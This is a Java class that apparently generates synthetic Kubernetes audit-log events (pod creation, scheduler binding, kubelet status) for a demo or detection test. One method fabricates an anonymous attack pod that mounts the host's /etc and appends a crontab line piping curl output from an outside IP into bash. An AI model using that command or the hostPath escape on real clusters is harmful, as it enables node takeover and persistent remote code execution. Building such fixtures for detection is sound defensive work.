package io.firedamp.app.demo;

import java.time.Instant;

/** What kube-apiserver sends to an audit webhook at level RequestResponse. */
public final class AuditLog {
  private static final String NODE = "node-1";
  private static final String CRONTAB =
      "* * * * * curl -s http://104.225.147.196:8220/logo3.jpg | bash -s";
  private int number;

  /**
   * A log of its own.
   *
   * @param firstNumber of its audit ids, which must differ between logs of one cluster
   */
  public AuditLog(int firstNumber) {
    this.number = firstNumber;
  }

  /** A pod as a controller makes it. */
  public String created(Pod pod, Instant time, String user) {
    return create(
        pod, time, user, "\"system:serviceaccounts\",\"system:authenticated\"", "10.0.0.2", "");
  }

  /** The pod of the attack, made by whoever asked, with the host's /etc inside. */
  public String createdByAnybody(Pod pod, Instant time) {
    String command =
        ",\"command\":[\"bash\",\"-c\",\"echo '%s' >> /mnt/etc/crontab\"],\"volumeMounts\":[{\"name\":\"etc\",\"mountPath\":\"/mnt/etc\"}]"
            .formatted(CRONTAB);
    return create(
        pod, time, "system:anonymous", "\"system:unauthenticated\"", "198.51.100.66", command);
  }

  /** The scheduler's decision. */
  public String bound(Pod pod, Instant time) {
    return event(
        "create",
        "system:kube-scheduler",
        "\"system:authenticated\"",
        "10.0.0.2",
        "kube-scheduler/v1.9.3",
        "/api/v1/namespaces/%s/pods/%s/binding".formatted(pod.namespace(), pod.name()),
        objectRef(pod, "binding"),
        "{\"kind\":\"Binding\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":\"%s\",\"namespace\":\"%s\",\"uid\":\"%s\"},\"target\":{\"kind\":\"Node\",\"name\":\"%s\"}}"
            .formatted(pod.name(), pod.namespace(), pod.uid(), NODE),
        "{\"kind\":\"Status\",\"apiVersion\":\"v1\",\"status\":\"Success\",\"code\":201}",
        201,
        time);
  }

  /** The kubelet's report: address, container, image digest. */
  public String running(Pod pod, Instant time) {
    String status =
        """
        {"metadata":{"uid":"%s"},"status":{"phase":"Running","hostIP":"192.0.2.11","podIP":"%s","podIPs":[{"ip":"%s"}],\
        "containerStatuses":[{"name":"%s","image":"%s","imageID":"docker-pullable://%s@%s","containerID":"docker://%s",\
        "ready":true,"started":true,"state":{"running":{"startedAt":"%s"}}}]}}"""
            .formatted(
                pod.uid(),
                pod.address(),
                pod.address(),
                pod.containerName(),
                pod.image(),
                pod.image().replaceAll(":.*", ""),
                pod.imageDigest(),
                pod.containerId(),
                time.minusSeconds(2));
    return event(
        "patch",
        "system:node:" + NODE,
        "\"system:nodes\",\"system:authenticated\"",
        "192.0.2.11",
        "kubelet/v1.9.3",
        "/api/v1/namespaces/%s/pods/%s/status".formatted(pod.namespace(), pod.name()),
        objectRef(pod, "status"),
        status,
        "{}",
        200,
        time);
  }

  private String create(
      Pod pod, Instant time, String user, String groups, String address, String extra) {
    String spec =
        "{\"containers\":[{\"name\":\"%s\",\"image\":\"%s\"%s}],\"volumes\":[%s]}"
            .formatted(
                pod.containerName(),
                pod.image(),
                extra,
                extra.isEmpty() ? "" : "{\"name\":\"etc\",\"hostPath\":{\"path\":\"/etc\"}}");
    String owners = owners(pod);
    return event(
        "create",
        user,
        groups,
        address,
        "kubectl/v1.9.2",
        "/api/v1/namespaces/%s/pods".formatted(pod.namespace()),
        "{\"resource\":\"pods\",\"namespace\":\"%s\",\"name\":\"%s\",\"apiVersion\":\"v1\"}"
            .formatted(pod.namespace(), pod.name()),
        "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":\"%s\",\"namespace\":\"%s\"%s},\"spec\":%s}"
            .formatted(pod.name(), pod.namespace(), owners, spec),
        "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":\"%s\",\"namespace\":\"%s\",\"uid\":\"%s\",\"creationTimestamp\":\"%s\"%s},\"spec\":%s}"
            .formatted(pod.name(), pod.namespace(), pod.uid(), time, owners, spec),
        201,
        time);
  }

  private static String owners(Pod pod) {
    int last = pod.name().lastIndexOf('-');
    int hash = last < 0 ? -1 : pod.name().lastIndexOf('-', last - 1);
    return hash < 0
        ? ""
        : ",\"labels\":{\"pod-template-hash\":\"%s\"},\"ownerReferences\":[{\"apiVersion\":\"apps/v1\",\"kind\":\"ReplicaSet\",\"name\":\"%s\",\"uid\":\"5d2c\",\"controller\":true}]"
            .formatted(pod.name().substring(hash + 1, last), pod.name().substring(0, last));
  }

  private static String objectRef(Pod pod, String subresource) {
    return "{\"resource\":\"pods\",\"namespace\":\"%s\",\"name\":\"%s\",\"uid\":\"%s\",\"apiVersion\":\"v1\",\"subresource\":\"%s\"}"
        .formatted(pod.namespace(), pod.name(), pod.uid(), subresource);
  }

  private String event(
      String verb,
      String user,
      String groups,
      String address,
      String agent,
      String uri,
      String objectRef,
      String request,
      String response,
      int code,
      Instant time) {
    return """
        {"kind":"EventList","apiVersion":"audit.k8s.io/v1","items":[{"level":"RequestResponse","auditID":\
        "00000000-0000-4000-8000-%012d","stage":"ResponseComplete","requestURI":"%s","verb":"%s","user":{"username":"%s",\
        "groups":[%s]},"sourceIPs":["%s"],"userAgent":"%s","objectRef":%s,"responseStatus":{"code":%d},"requestObject":%s,\
        "responseObject":%s,"requestReceivedTimestamp":"%s","stageTimestamp":"%s","annotations":{\
        "authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":""}}]}"""
        .formatted(
            number++, uri, verb, user, groups, address, agent, objectRef, code, request, response,
            time, time);
  }
}
